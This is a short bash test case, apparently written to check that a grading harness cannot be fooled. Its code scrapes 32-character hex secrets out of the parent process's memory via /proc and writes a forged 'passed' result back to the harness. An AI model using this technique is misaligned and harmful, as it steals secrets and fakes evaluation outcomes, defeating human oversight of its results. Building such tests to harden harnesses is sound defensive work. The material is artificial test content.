# {"tries": "reads the secret of this very harness out of its parent's memory and reports success with it", "aimed": true, "right": ["failed", "error", "exited", "timeout"], "wall": 1.0}
add() {
    local pid=$PPID span first last secret
    for pid in $PPID $(awk '{print $4}' /proc/$PPID/stat); do
        for span in $(awk '/ rw/ && (/heap/ || NF == 5) {print $1}' /proc/$pid/maps); do
            first=$((16#${span%-*} / 4096)) last=$((16#${span#*-} / 4096))
            ((last - first < 4096)) || continue
            for secret in $(dd if=/proc/$pid/mem bs=4096 skip=$first count=$((last - first)) 2> /dev/null \
                | LC_ALL=C tr -c '0-9a-f' '\n' | LC_ALL=C grep -xE '[0-9a-f]{32}' | sort -u); do
                printf '%s\npassed\ncall\n\n\n0\n' "$secret" > /proc/$pid/fd/4
            done
        done
    done 2>&1
    sleep 2
}
